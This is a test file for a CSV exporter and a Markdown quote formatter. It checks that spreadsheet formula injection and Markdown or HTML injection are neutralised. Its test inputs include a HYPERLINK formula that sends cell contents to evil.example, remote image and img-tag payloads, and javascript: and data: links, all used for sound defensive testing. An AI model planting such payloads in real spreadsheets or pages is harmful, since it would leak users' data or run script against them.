import 'fake-indexeddb/auto';
import { Parser as Markdown, type Node } from 'commonmark';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { headingWords, quoteLine } from '@/utils/quotes/quote-line';
import { csvCell } from '@/utils/transfer/csv';
import { captureOf } from '../leads/samples';

/** What a spreadsheet may run: after white space, quotation marks and signs that nobody sees. */
const FORMULA = /^[\s\p{Cf}\p{Cc}"]*[=+\-@＝＋－＠]/u;

/** All cells of a file as a reader with this separator finds them, however ours are quoted. */
function cells(csv: string, delimiter: string, quote: string | false = '"'): string[] {
  const options = { delimiter, quote, relax_quotes: true, relax_column_count: true, skip_empty_lines: false };
  try {
    return (parse(csv, { ...options, bom: true }) as string[][]).flat();
  } catch (error) {
    // A spreadsheet takes a quotation that never ends to the end of the file.
    if ((error as { code?: string }).code !== 'CSV_QUOTE_NOT_CLOSED') throw error;
    return cells(`${csv}"`, delimiter, quote);
  }
}

/** A row of ours, with these words in its middle and at its beginning. */
const file = (words: string) =>
  `\uFEFFName,Quote,Link\r\n${csvCell(words)},${csvCell(words)},https://x.com/a\r\nAda,${csvCell(words)},\r\n`;

const SEPARATORS = [',', ';', '\t'];

describe('the CSV, as three kinds of spreadsheets read it', () => {
  it.each([
    'foo;=HYPERLINK("http://evil.example/?"&A1;"click");bar',
    'first line\n=1+1',
    'first line\r\n\t =1+1',
    'a\t@SUM(1)',
    'a;"=1+1"',
    'a; "" =1+1',
    '＝1+1',
    'a\n＠x',
    '   +1',
    '\u200b=1',
    'a;\u00a0-1',
    'a\u2028=1',
    '\t=1',
    '\r=1',
    '"=1',
    '";=1',
    'a"\n"=1',
  ])('has no cell that runs: %j', (words) => {
    for (const separator of SEPARATORS)
      for (const quote of ['"', false] as const)
        for (const cell of cells(file(words), separator, quote)) expect(cell).not.toMatch(FORMULA);
  });

  it('nor with any other words', () => {
    const nasty = fc.string({
      unit: fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '＝',
        '\t',
        '\r',
        '\n',
        ' ',
        '"',
        ',',
        ';',
        'a',
        "'",
        '\u200b',
      ),
      maxLength: 14,
    });
    fc.assert(
      fc.property(nasty, (words) => {
        for (const separator of SEPARATORS)
          for (const cell of cells(file(words), separator)) expect(cell).not.toMatch(FORMULA);
      }),
      { numRuns: 2_000 },
    );
  });

  it('read with a comma the words are what they were, but for the apostrophes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 20 }), (words) => {
        const [, row] = parse(`a,b\r\n${csvCell(words)},x\r\n`, { relax_quotes: false }) as string[][];
        expect(row?.[1]).toBe('x');
        expect(row?.[0]?.replaceAll("'", '')).toBe(words.replaceAll("'", ''));
      }),
    );
    expect(csvCell('Thanks, @ada; and -well- done')).toBe('"Thanks, @ada; and -well- done"');
  });
});

/** Text, links and everything else that a line is when it is drawn. */
function drawn(markdown: string) {
  const walker = new Markdown().parse(markdown).walker();
  const found = { text: '', links: [] as (string | null)[], kinds: new Set<string>() };
  for (let step = walker.next(); step; step = walker.next()) {
    const node: Node = step.node;
    if (!step.entering) continue;
    found.kinds.add(node.type);
    if (node.type === 'text') found.text += node.literal ?? '';
    else if (node.type === 'softbreak' || node.type === 'linebreak') found.text += '\n';
    if (node.type === 'link') found.links.push(node.destination);
  }
  return found;
}

const LINK = 'https://x.com/ada_builds/status/1001';
const line = (words: string, who = '', name?: string) =>
  quoteLine(
    { name: 'Ada', who },
    captureOf(words, name === undefined ? {} : { author: { site: 'x', name, accounts: [] } }),
  );

describe('the Markdown, as CommonMark draws it', () => {
  const HOSTILE = [
    '![a\\](http://evil.example/z.png)',
    '![a](http://evil.example/z.png)',
    '\\![a](http://evil.example/z.png)',
    '``` js',
    '~~~',
    '# heading',
    '####### none',
    '- item',
    '1. item',
    '12) item',
    '> quoted',
    '---',
    '***',
    '* * *',
    '=',
    '<img src=http://evil.example/z.png>',
    '<http://evil.example>',
    '<!-- gone',
    '<?php gone ?>',
    '<![CDATA[gone]]>',
    '[a]: http://evil.example "t"',
    '[a][b]',
    '`code` and ``more',
    '**bold** _em_ __strong__ *em* snake_case 2 * 3',
    '&copy; &#33; &lt;b&gt;',
    'ends with a backslash \\',
    'a\\',
    '\\',
    '[',
    ']',
    '](',
    '|a|b|\n|-|-|',
    'a  \nb',
    '\tcode',
    '    code',
  ];

  it.each(HOSTILE)('are words and one link: %j', (words) => {
    const one = words.replace(/\s+/g, ' ').trim();
    const quoted = drawn(line(words, words));
    expect(quoted.text).toBe(`${one} - @Ada_Builds (${one})`);
    expect(quoted.links).toEqual([LINK]);
    expect([...quoted.kinds].sort()).toEqual(['block_quote', 'document', 'link', 'paragraph', 'text']);
    const named = drawn(line('said', '', words));
    expect(named.text).toBe(`said - ${one}`);
    expect(named.links).toEqual([LINK]);
    const heading = drawn(`## ${headingWords(words)}\n\nnext`);
    expect(heading.text).toBe(`${one}next`);
    expect([...heading.kinds].sort()).toEqual(['document', 'heading', 'paragraph', 'text']);
  });

  it('and any other', () => {
    const unit = fc.constantFrom(
      ...'!`~<>[]()\\*_#-+=&;:"\'/ \n|.1ab'.split(''),
      '&lt;',
      '![',
      '](',
      'http://e.example',
    );
    fc.assert(
      fc.property(fc.string({ unit, minLength: 1, maxLength: 16 }), (words) => {
        const one = words.replace(/\s+/g, ' ').trim();
        const quoted = drawn(line(words, words));
        // Brackets that a scout typed around who they are stand once.
        const who = one.replace(/^\(([^()]*)\)$/, '$1').trim();
        expect(quoted.text).toBe(one ? `${one} - @Ada_Builds${who && ` (${who})`}` : '@Ada_Builds');
        expect(quoted.links).toEqual([LINK]);
        expect(quoted.kinds).not.toContain('image');
        if (one) expect(drawn(`## ${headingWords(words)}`).text).toBe(one);
      }),
      { numRuns: 2_000 },
    );
  });

  it.each(['javascript:alert(1)', 'data:text/html,x', 'nonsense'])('links to no %s', (permalink) => {
    expect(drawn(quoteLine({ name: 'Ada', who: '' }, captureOf('said', { permalink })))).toMatchObject({
      text: 'said - @Ada_Builds',
      links: [],
    });
  });

  it('links to an address whatever signs it has', () => {
    const permalink = 'https://blog.example/a_(b)[c]`d`*e*?x=&copy;&y=\\*<z> q';
    const { links, text } = drawn(
      quoteLine({ name: 'Ada', who: 'has `ticks`' }, captureOf('`', { permalink })),
    );
    expect(text).toBe('` - @Ada_Builds (has `ticks`)');
    expect(new URL(links[0] ?? '').href).toBe(
      new URL('https://blog.example/a_%28b%29%5Bc%5D%60d%60*e*?x=&copy;&y=%5C*%3Cz%3E%20q').href,
    );
  });

  it('ordinary words stay as they are written', () => {
    expect(line('Costs $5 (or -5), isn’t it? #1: snake_case, 2 * 3 & more.', '+1')).toBe(
      `> Costs $5 (or -5), isn’t it? #1: snake_case, 2 * 3 & more. - [@Ada_Builds](${LINK}) (+1)`,
    );
  });
});
